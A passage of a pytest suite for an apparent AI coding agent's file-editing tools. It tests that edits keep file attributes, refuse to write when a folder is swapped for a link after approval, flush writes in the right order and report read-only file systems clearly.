    shared.write_text("one\n")
    try:
        os.setxattr(shared, "user.origin", b"team")
    except OSError:
        pytest.skip("this file system keeps no extended attributes")
    acl = None
    if (
        shutil.which("setfacl")
        and subprocess.run(["setfacl", "-m", "u:1234:rw", str(shared)]).returncode == 0
    ):
        acl = os.getxattr(shared, "system.posix_acl_access")
    model.queue(
        calls(("edit_file", {"path": "shared.txt", "old_text": "one", "new_text": "ONE"})),
        answer("ok"),
    )

    assert cli("--yes", "shout").returncode == 0
    edited = {name: os.getxattr(shared, name) for name in os.listxattr(shared)}
    assert cli("--undo").returncode == 0

    assert shared.read_text() == "one\n"
    for attributes in (edited, {name: os.getxattr(shared, name) for name in os.listxattr(shared)}):
        assert attributes["user.origin"] == b"team"
        assert acl is None or attributes["system.posix_acl_access"] == acl


@posix_only
def test_an_edit_whose_folder_is_swapped_for_a_link_during_the_question_is_refused(
    model, tmp_path, in_a_run
):
    # edit_file planned again on whatever the path led to after the yes: the person saw docs/a.txt,
    # and the edit landed in other/a.txt, which a link swapped in for docs/ now led to.
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "a.txt").write_text("version = 1\n")
    (tmp_path / "other").mkdir()
    (tmp_path / "other" / "a.txt").write_text("version = 1\n")

    def approve_after_a_swap(name: str, arguments: dict) -> bool:
        previews.describe(name, arguments, screen.shown, in_a_run)
        (tmp_path / "docs").rename(tmp_path / "docs-before")
        (tmp_path / "docs").symlink_to("other")
        return True

    model.queue(calls(edit("docs/a.txt", "version = 1", "version = 2")), answer("swapped"))

    harness.run("bump", approve=approve_after_a_swap)

    assert model.messages(1)[-1]["content"] == (
        "error: docs/a.txt leads to another file than when you were asked "
        "(a link on the way to it changed); read it again"
    )
    assert (tmp_path / "other" / "a.txt").read_text() == "version = 1\n"


@posix_only
def test_a_new_file_whose_folder_is_swapped_for_a_link_during_the_question_is_not_written(
    model, tmp_path
):
    # Neither place held the file, so "nothing there" matched "nothing there" and it
    # was made in the other one.
    (tmp_path / "docs").mkdir()
    (tmp_path / "other").mkdir()

    def approve_after_a_swap(name: str, arguments: dict) -> bool:
        (tmp_path / "docs").rmdir()
        (tmp_path / "docs").symlink_to("other")
        return True

    model.queue(calls(write("docs/new.txt", "hello\n")), answer("swapped"))

    harness.run("write it", approve=approve_after_a_swap)

    assert (
        model.messages(1)[-1]["content"]
        == "error: docs/new.txt changed since you were asked; read it again"
    )
    assert list((tmp_path / "other").iterdir()) == []


@pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="capset, to read as an ordinary user even as root"
)
def test_a_folder_that_may_be_written_but_not_read_is_written_in_without_the_folder_lock(tmp_path):
    # The folder lock opens the nearest folder that exists to read it; one of mode 0300 (write and
    # search, no read) refused that, and a write into a new folder inside it failed, where it had
    # worked. The child drops root's capabilities, so it is refused reading the folder as any owner
    # would be. (A file right in such a folder is refused by the atomic write itself, which works in
    # the folder opened: that is a one-line error.)
    (tmp_path / "dropbox").mkdir(mode=0o300)
    done = in_child(
        "\n".join(
            [
                "import ctypes",
                "header, nothing = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()",
                "libc = ctypes.CDLL(None, use_errno=True)",
                "assert libc.capset(ctypes.byref(header), nothing) == 0",
                "result = tools.write_file('dropbox/new/x.txt', 'hi\\n', settings=config)",
            ]
        ),
        tmp_path,
    )

    assert done["result"] == "created dropbox/new/x.txt (3 bytes)"
    assert (tmp_path / "dropbox" / "new" / "x.txt").read_text() == "hi\n"


@posix_only  # Windows has no flock, and writes by path
@pytest.mark.parametrize(
    "call", [calls(write("d/notes.txt", "new\n")), calls(edit("d/notes.txt", "mine", "new"))]
)
def test_a_folder_replaced_between_its_lock_and_the_write_is_not_written_in(
    model, tmp_path, monkeypatch, call
):
    # The lock is taken on the folder by its name, and the write opens it again: another program
    # renaming the folder and making a new one in its place in between (mv d d.old; mkdir d)
    # left the write unlocked there.
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "notes.txt").write_text("mine\n")
    real_open_folder = writes.open_folder

    def open_after_a_swap(target, config):
        (tmp_path / "d").rename(tmp_path / "d.old")
        (tmp_path / "d").mkdir()
        (tmp_path / "d" / "notes.txt").write_text("theirs\n")
        return real_open_folder(target, config)

    monkeypatch.setattr(writes, "open_folder", open_after_a_swap)
    model.queue(call, answer("done"))

    harness.run("change the notes", approve=approval.approve_all)

    assert model.messages(1)[-1]["content"] == (
        "error: OSError: cannot write d/notes.txt: its folder was moved or "
        "replaced while it was being written; nothing was written; read it again"
    )
    assert (tmp_path / "d" / "notes.txt").read_text() == "theirs\n"
    assert (tmp_path / "d.old" / "notes.txt").read_text() == "mine\n"


@pytest.mark.skipif(
    not Path("/proc/self/fd").is_dir() or shutil.which("strace") is None,
    reason="needs Linux and strace, to see the order of system calls",
)
def test_a_written_file_is_flushed_and_then_its_folder_once_the_new_file_has_its_name(
    model, tmp_path
):
    # The rename is what makes the write whole: until its folder is flushed,
    # a power cut may undo it.
    folder = tmp_path.resolve()
    (folder / "a.txt").write_text("one\n")
    model.queue(calls(write("a.txt", "two\n")), answer("done"))

    calls_made = traced(
        "fsync,rename,renameat,renameat2", "--yes", "--no-transcript", "write", cwd=folder
    )
    [renamed] = [
        i
        for i, (name, paths) in enumerate(calls_made)
        if name.startswith("rename") and paths[-1] == folder / "a.txt"
    ]
    # the file
    assert any(
        name == "fsync" and paths[0].parent == folder for name, paths in calls_made[:renamed]
    )
    assert ("fsync", [folder]) in calls_made[renamed + 1 :]  # then the folder that names it
    assert (folder / "a.txt").read_text() == "two\n"


@pytest.fixture
def read_only_later(tmp_path):
    """A folder on a file system of its own (a small tmpfs: root only), and the function that
    remounts it read-only; unmounted when the test ends."""
    folder = tmp_path / "mounted"
    folder.mkdir()
    if not hasattr(os, "geteuid") or os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a file system needs root and mount")
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(folder)],
        capture_output=True,
        text=True,
    )
    if mounted.returncode:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.strip()}")
    try:
        yield folder, lambda: subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)
    finally:
        os.chdir(tmp_path)  # out of it, so it can be unmounted
        subprocess.run(["umount", str(folder)], check=True)


def test_on_a_read_only_file_system_the_file_tools_and_undo_say_so_and_change_nothing(
    model, cli, read_only_later, monkeypatch
):
    # They said `may not be written by this user` and `make it writable (chmod u+w a.txt)`, which
    # cannot help there
    folder, read_only = read_only_later
    (folder / "a.txt").write_text("old\n")
    monkeypatch.chdir(folder)
    model.queue(calls(write("a.txt", "new\n")), answer("done"))
    assert cli("change", "--yes").returncode == 0
    read_only()
    model.queue(
        calls(write("a.txt", "newer\n"), edit("a.txt", "new", "x"), write("c/d.txt", "x")),
        answer("done"),
    )

    assert cli("more", "--yes").returncode == 0
    undone = cli("--undo", "--run", "1")

    refused = "is on a read-only file system, so nothing was written; ask the user to mount it "
    assert [r.split(refused) for r in results(model, 3, 3)] == [
        ["error: a.txt ", "read-write if it should change; else write elsewhere"],
        ["error: a.txt ", "read-write if it should change; else write elsewhere"],
        ["error: c/d.txt ", "read-write if it should change; else write elsewhere"],
    ]
    assert (undone.returncode, undone.stdout) == (
        1,
        "failed a.txt: it is on a read-only file system; mount it read-write, then undo again\n",
    )
    assert (folder / "a.txt").read_text() == "new\n" and sorted(os.listdir(folder)) == ["a.txt"]
